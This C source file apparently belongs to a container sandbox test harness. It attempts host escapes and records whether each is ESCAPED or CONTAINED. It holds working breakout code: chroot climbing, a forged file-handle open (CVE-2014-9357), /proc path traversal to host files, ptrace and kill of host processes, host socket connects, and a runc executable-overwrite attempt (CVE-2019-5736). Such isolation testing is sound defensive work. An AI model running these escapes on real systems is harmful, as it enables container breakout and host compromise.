/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Acts against the host's files, processes, sockets and the runtime itself.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include "acts.h"

static bool holds_token(const char *path, const char *token)
{
	char text[4096];
	const int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	ssize_t n;

	if (fd < 0)
		return false;
	n = read(fd, text, sizeof(text) - 1);
	(void)close(fd);
	if (n <= 0)
		return false;
	for (ssize_t i = 0; i < n; i++)
		text[i] = text[i] ? text[i] : ' '; /* cmdline */
	text[n] = '\0';
	return strstr(text, token) != NULL;
}

/* Climb out of a chroot(2) with a working directory outside of it. */
static bool climb(const char *path, const char *token)
{
	char up[4096] = "";

	if (mkdir("/tmp/climb", 0700) < 0 && errno != EEXIST)
		return false;
	if (chdir("/") < 0 || chroot("/tmp/climb") < 0)
		return false;
	for (int i = 0; i < 64; i++)
		strcat(up, "../");
	strncat(up, path + 1, sizeof(up) - strlen(up) - 1);
	return holds_token(up, token);
}

/* CVE-2014-9357 ("shocker"): open the root's inode by a forged handle. */
static bool by_handle(void)
{
	struct {
		struct file_handle head;
		unsigned char bytes[8];
	} handle = { .head = { .handle_bytes = 8, .handle_type = 1 }, .bytes = { 2 } };
	const int mount_fd = open("/etc", O_RDONLY | O_CLOEXEC);
	const int fd = open_by_handle_at(mount_fd, &handle.head, O_RDONLY);

	return fd >= 0;
}

enum verdict read_host_file(struct report *report)
{
	const char *secret = fact("HOST_SECRET");
	const char *token = fact("HOST_TOKEN");
	static const char *const ways[] = { "%s", "/proc/1/root%s", "/proc/self/root/../..%s",
					    "/proc/1/cwd/../../../../../..%s",
					    "/dev/fd/../../../../..%s" };
	char path[4096];

	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
		(void)snprintf(path, sizeof(path), ways[i], secret);
#pragma GCC diagnostic pop
		if (holds_token(path, token))
			return verdict(report, ESCAPED, "read %s", path);
	}
	for (int fd = 3; fd < 64; fd++) {
		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d/../../../../../..%s", fd,
			       secret);
		if (holds_token(path, token))
			return verdict(report, ESCAPED, "read it through descriptor %d", fd);
	}
	if (by_handle())
		return verdict(report, ESCAPED, "opened the root by handle");
	if (climb(secret, token))
		return verdict(report, ESCAPED, "climbed out of a chroot");
	return verdict(report, CONTAINED, "its root holds only its own tree");
}

enum verdict see_host_process(struct report *report)
{
	const char *token = fact("HOST_TOKEN");
	DIR *proc = opendir("/proc");
	char path[300];
	int seen = 0;

	if (!proc)
		return refused(report, "open /proc");
	for (struct dirent *e; (e = readdir(proc));) {
		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		seen++;
		(void)snprintf(path, sizeof(path), "/proc/%s/cmdline", e->d_name);
		if (holds_token(path, token))
			return verdict(report, ESCAPED, "saw pid %s", e->d_name);
	}
	(void)closedir(proc);
	return verdict(report, CONTAINED, "sees %d processes, all its own", seen);
}

enum verdict kill_host_process(struct report *report)
{
	const pid_t pid = (pid_t)fact_number("HOST_PID");

	if (kill(pid, SIGKILL) < 0)
		return refused(report, "kill");
	return verdict(report, ESCAPED, "kill of pid %d succeeded", (int)pid);
}

enum verdict trace_host_process(struct report *report)
{
	const pid_t pid = (pid_t)fact_number("HOST_PID");
	char byte;
	struct iovec local = { &byte, 1 }, remote = { (void *)0x400000, 1 };

	if (process_vm_readv(pid, &local, 1, &remote, 1, 0) == 1)
		return verdict(report, ESCAPED, "read the memory of pid %d", (int)pid);
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0)
		return verdict(report, ESCAPED, "seized pid %d", (int)pid);
	return refused(report, "ptrace");
}

static bool connects(int family, const void *addr, socklen_t len)
{
	const int sock = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	const bool ok = sock >= 0 && connect(sock, addr, len) == 0;

	if (sock >= 0)
		(void)close(sock);
	return ok;
}

enum verdict reach_host_sockets(struct report *report)
{
	const char *name = fact("HOST_ABSTRACT");
	const char *path = fact("HOST_SOCKET");
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	struct sockaddr_in in = { .sin_family = AF_INET,
				  .sin_port = htons((unsigned short)fact_number("HOST_PORT")),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };

	(void)snprintf(un.sun_path + 1, sizeof(un.sun_path) - 1, "%s", name);
	if (connects(AF_UNIX, &un, (socklen_t)(sizeof(un.sun_family) + 1 + strlen(name))))
		return verdict(report, ESCAPED, "connected to an abstract socket");
	(void)snprintf(un.sun_path, sizeof(un.sun_path), "%s", path);
	if (connects(AF_UNIX, &un, sizeof(un)))
		return verdict(report, ESCAPED, "connected to %s", path);
	if (connects(AF_INET, &in, sizeof(in)))
		return verdict(report, ESCAPED, "connected to the host's loopback");
	return refused(report, "connect");
}

/*
 * CVE-2019-5736: the harness executes, with the runtime, a script whose interpreter is
 * /proc/self/exe. Meanwhile this act looks for the runtime's process and opens its executable for
 * writing.
 */
static bool grab(const char *pid)
{
	char path[300];
	int fd, again;

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	again = open(path, O_WRONLY | O_CLOEXEC);
	if (again >= 0)
		return true;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 200 && again < 0; i++)
		again = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
	(void)close(fd);
	return again >= 0;
}

enum verdict overwrite_runtime(struct report *report)
{
	static const char script[] = "#!/proc/self/exe\n";
	const char *evil = fact("EVIL_SCRIPT");
	const time_t end = time(NULL) + 10;
	const int fd = open(evil, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	const pid_t self = getpid(), parent = getppid();
	long met = 0;

	if (fd < 0 || write(fd, script, sizeof(script) - 1) < 0 || close(fd) < 0)
		return verdict(report, ESCAPED, "not tried: cannot write %s", evil);
	printf("@exec %s\n", evil); /* the harness now executes it, several times */
	while (time(NULL) < end && access(fact("EVIL_DONE"), F_OK) != 0) {
		DIR *proc = opendir("/proc");

		for (struct dirent *e; proc && (e = readdir(proc));) {
			const long pid = strtol(e->d_name, NULL, 10);

			if (pid <= 0 || pid == self || pid == parent)
				continue;
			met++;
			if (grab(e->d_name))
				return verdict(report, ESCAPED, "opened /proc/%ld/exe to write",
					       pid);
		}
		if (proc)
			(void)closedir(proc);
	}
	if (met == 0)
		return verdict(report, ESCAPED, "not tried: no process of the runtime was met");
	return verdict(report, CONTAINED, "met the runtime %ld times; its exe is a sealed copy",
		       met);
}
